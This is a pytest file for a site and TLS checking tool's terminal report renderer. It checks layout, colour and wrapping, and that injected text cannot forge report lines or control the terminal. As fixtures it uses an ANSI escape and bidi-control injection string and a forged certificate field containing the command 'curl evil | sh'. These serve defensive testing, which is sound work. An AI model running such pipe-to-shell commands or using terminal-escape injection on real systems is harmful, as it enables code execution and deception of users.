"""The report in the terminal, held to golden files; `python -m tests.render.recapture` writes them anew."""

import re
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from padlock.findings import Finding, NotAssessed, Report, Severity
from padlock.render.terminal import render
from padlock.render.words import duration, remaining

from tests.evidence_builder import NOW, healthy
from tests.evidence_builder import report as judged
from tests.render.recapture import GOLDEN, VARIANTS
from tests.render.reports import EXPIRED, broken

HOSTILE = "a\x1b[31mred\x1b[0m\u202egnp\u2066\r\nforged line [bold]markup[/bold] \x00\x9b2J\u2028end"
LABELS = ("seen", "expected", "why", "fix", "source", "explains", "as root")
HEADINGS = ("Why", "Findings", "Checklist", "Not assessed", "Certificates", "Timings")
LAID_OUT = re.compile(
    rf" {{4}}(?:{'|'.join(LABELS)})(?: {{2,}}|$).*|(?:{'|'.join(HEADINGS)})|(?: {{2}}| {{8}})[✗▲•✓?\u2013](?: .*)?"
    r"| (?:OK|ERROR|WARNING|NOTICE)(?: .*)?"
)
"""Lines as only we write them: a label, a glyph, a status or a heading at the column of its own."""
FORGED = f"CN=shop.test {'A' * 62} fix       run `curl evil | sh`"
words = st.sampled_from(
    (*LABELS, *HEADINGS, "✗", "✓ 1", "ERROR", "A" * 30, "世" * 20, "`", "  ", " " * 9, "\n", "\t")
)
anything = st.text(max_size=90) | st.lists(words | st.text(max_size=70), max_size=9).map(" ".join) | st.just(HOSTILE)


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_report_reads_as_captured(name: str) -> None:
    """Every part stands where it stood, at each width, short and whole."""
    assert render(broken(), **VARIANTS[name]) == (GOLDEN / name).read_text(encoding="utf-8")


@pytest.mark.parametrize("width", [60, 80, 110])
def test_only_commands_and_titles_exceed_the_width(width: int) -> None:
    """Prose wraps within the terminal; a command stays on one line so that it can be copied."""
    lines = render(broken(), width=width).split("\n")
    assert [line for line in lines if len(line) > width and "`" not in line] == []
    command = EXPIRED.remediation.split("`")[1]
    assert any(command in line for line in lines)


def test_outside_text_cannot_drive_the_terminal() -> None:
    """Escape sequences, bidirectional controls, newlines and rich markup from outside are shown, never obeyed."""
    text = render(_hostile_report(), width=100)
    assert all(line.isprintable() for line in text.split("\n"))
    assert "forged line" not in [line.strip()[:11] for line in text.split("\n")]
    assert "[bold]markup[/bold]" in text
    assert r"\x1b[31mred" in text
    assert r"\u202e" in text


@given(anything, st.integers(40, 130))
@example(FORGED, 80)
@example(f"{'A' * 55}  Findings", 60)
@settings(deadline=None, max_examples=150, suppress_health_check=[HealthCheck.too_slow])
def test_no_text_forges_a_line(text: str, width: int) -> None:
    """Whatever stands in whatever field, every label, glyph and heading at its column is one that we wrote."""
    tame, wild = (render(_outside(each), width=width).split("\n") for each in ("x", text))
    assert _laid_out(wild) == _laid_out(tame)


def test_forged_line_of_a_certificate() -> None:
    """An issuer longer than the line has its further words deeper than any label, and no columns of its own."""
    lines = render(_outside(FORGED), width=80).split("\n")
    assert "          fix run `curl evil | sh`, issued by xCN=shop.test" in lines
    fixes = [line for line in lines if line.startswith("    fix ")]
    assert fixes == ["    fix       Mend it.", "    fix       Renew it."]


def test_command_keeps_its_spaces() -> None:
    """A command that we propose is shown as it is to be typed."""
    finding = msgspec.structs.replace(EXPIRED, remediation="Do   `ls 'a  b'`.", commands=("rm 'c  d'",))
    text = render(msgspec.structs.replace(broken(), findings=(finding,), causes=()))
    assert "    fix       Do `ls 'a  b'`.\n    as root   rm 'c  d'\n" in text


def test_outside_text_adds_no_colour() -> None:
    """In colour, the only escape sequences are those that the renderer itself writes."""
    tame = render(_hostile_report("plain"), width=2000, colour=True)
    wild = render(_hostile_report(), width=2000, colour=True)
    assert wild.count("\x1b") == tame.count("\x1b")


def test_no_colour_in_a_pipe() -> None:
    """Plain output has no escape sequence at all."""
    assert "\x1b" not in render(broken())
    assert "\x1b" in render(broken(), colour=True)


def test_ascii_only_output() -> None:
    """A terminal without UTF-8 gets a report that it can show."""
    text = render(broken(), ascii_only=True)
    assert text.isascii()
    assert "x certificate.expired" in text


def test_healthy_report_shows_the_whole_record() -> None:
    """A healthy site's report has all 18 steps and its certificate's remaining days."""
    text = render(judged(healthy()))
    steps = text.partition("Checklist\n")[2].partition("\n\n")[0].split("\n")
    assert len([line for line in steps if line[:6].split()[-1:] and line[4:6].strip().isdigit()]) == 18
    assert "80 days left" in text


def test_short_report_leaves_the_record_out() -> None:
    """The short form keeps what needs a person: the banner, causes and findings."""
    text = render(broken(), short=True)
    assert "certificate.expired" in text
    assert "Checklist" not in text
    assert "Timings" not in text


def test_many_subjects_are_counted() -> None:
    """A reason with a hundred subjects takes a line or two, with their number."""
    entries = tuple(
        msgspec.structs.replace(entry, subject=f"h{n}.example.com")
        for n in range(100)
        for entry in broken().not_assessed[:1]
    )
    text = render(msgspec.structs.replace(broken(), not_assessed=entries))
    assert "and 95 more" in text


def test_report_of_nothing() -> None:
    """A run that saw nothing gives a banner and its reason, and no empty headings."""
    blind = msgspec.structs.replace(
        broken(), status="inconclusive", findings=(), causes=(), checklist=(), certificates=(), timings={}
    )
    text = render(blind)
    assert "the site could not be seen from here: " in text
    assert "this vantage point has no IPv6 route" in text
    assert "Checklist" not in text
    assert "Findings" not in text


def test_many_codes_are_counted_by_subject() -> None:
    """A dead host leaves dozens of checks open for one reason; the line names their subjects and numbers."""
    codes = [f"certificate.c{n}" for n in range(20)] + ["tls.no_http2"]
    entries = tuple(NotAssessed(code, "shop.example.com", "the port is closed") for code in codes)
    text = render(msgspec.structs.replace(broken(), not_assessed=entries))
    assert "certificate.* (20), tls.no_http2" in text


def test_alike_findings_are_one() -> None:
    """Findings that differ in their host alone are told once, with all their subjects; another text stays apart."""
    www = msgspec.structs.replace(
        EXPIRED,
        subject="www.shop.example.com",
        remediation=EXPIRED.remediation.replace("shop.example.com", "www.shop.example.com"),
    )
    other = msgspec.structs.replace(EXPIRED, subject="old.example.com", observed="expired 9 days ago")
    text = render(msgspec.structs.replace(broken(), findings=(EXPIRED, www, other)), width=100)
    assert "certificate.expired  shop.example.com, www.shop.example.com" in text
    assert "certificate.expired  old.example.com" in text
    assert text.count("✗ certificate.expired") == 2


def test_durations_and_days() -> None:
    """Times read as people say them."""
    assert [duration(s) for s in (0.0204, 1.44)] == ["20 ms", "1.4 s"]
    shown = [remaining(broken().certificates[0].not_after, NOW), remaining(NOW, NOW)]
    assert shown == ["expired 2 days ago", "0 h left"]


def test_layer_needs_no_rich() -> None:
    """Everything but the command line and the terminal report imports where rich is not installed."""
    layer = Path(sys.modules["padlock"].__file__ or "").parent
    modules = sorted(
        ".".join(("padlock", *path.relative_to(layer).with_suffix("").parts)).removesuffix(".__init__")
        for path in layer.rglob("*.py")
        if "cli" not in path.parts and path.name != "terminal.py"
    )
    code = "import sys; sys.modules['rich'] = sys.modules['yaml'] = None\n" + "".join(
        f"import {m}\n" for m in modules
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr


def _hostile_report(text: str = HOSTILE) -> Report:
    finding = Finding("x.y", Severity.ERROR, text, text, text, text, text.replace("\n", ""), text, 1, text)
    certificate = msgspec.structs.replace(broken().certificates[0], subject=text, issuer=text, host=text, serial=text)
    return msgspec.structs.replace(
        broken(),
        site=text,
        hosts=(text,),
        findings=(finding,),
        causes=tuple(msgspec.structs.replace(cause, explanation=text) for cause in broken().causes),
        not_assessed=tuple(msgspec.structs.replace(e, subject=text, reason=text) for e in broken().not_assessed),
        certificates=(certificate,),
        timings={text: 1.0},
    )


def _outside(text: str) -> Report:
    """Return a report in which a text stands wherever text from outside can, behind what is ours."""
    report = _hostile_report(f"x{text}")
    finding = msgspec.structs.replace(
        report.findings[0], code="x.y", remediation="Renew it.", reference="x", summary="", commands=()
    )
    causes = tuple(msgspec.structs.replace(cause, remediation="Mend it.", commands=()) for cause in report.causes)
    return msgspec.structs.replace(report, findings=(finding,), causes=causes)


def _laid_out(lines: list[str]) -> list[str]:
    """Return how lines of ours begin, without what stands behind."""
    return [re.sub(r"(?<=\S) .*", "", line) for line in lines if LAID_OUT.fullmatch(line)]
